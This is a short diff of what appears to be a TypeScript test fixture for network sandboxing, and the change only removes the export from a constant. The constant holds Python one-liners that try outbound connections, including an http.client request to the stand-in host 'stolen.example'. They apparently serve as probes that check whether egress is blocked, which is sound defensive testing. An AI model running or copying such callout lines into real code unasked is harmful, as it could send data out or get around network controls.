@@ -39,7 +39,7 @@ export const inScript: Readonly<Record<string, string>> = { ...NETWORK, ...RARE,
 export const inNested: Readonly<Record<string, string>> = FETCHES;
 
 /** Python that comes to its end if the way is open. */
-export const inPython: Readonly<Record<string, string>> = {
+const inPython: Readonly<Record<string, string>> = {
   urllib: 'import urllib.request; urllib.request.urlopen(FOREIGN + "urllib", timeout=1)',
   'http.client':
     'import http.client; c = http.client.HTTPConnection("stolen.example", timeout=1); c.request("GET", "/http.client"); c.getresponse()',
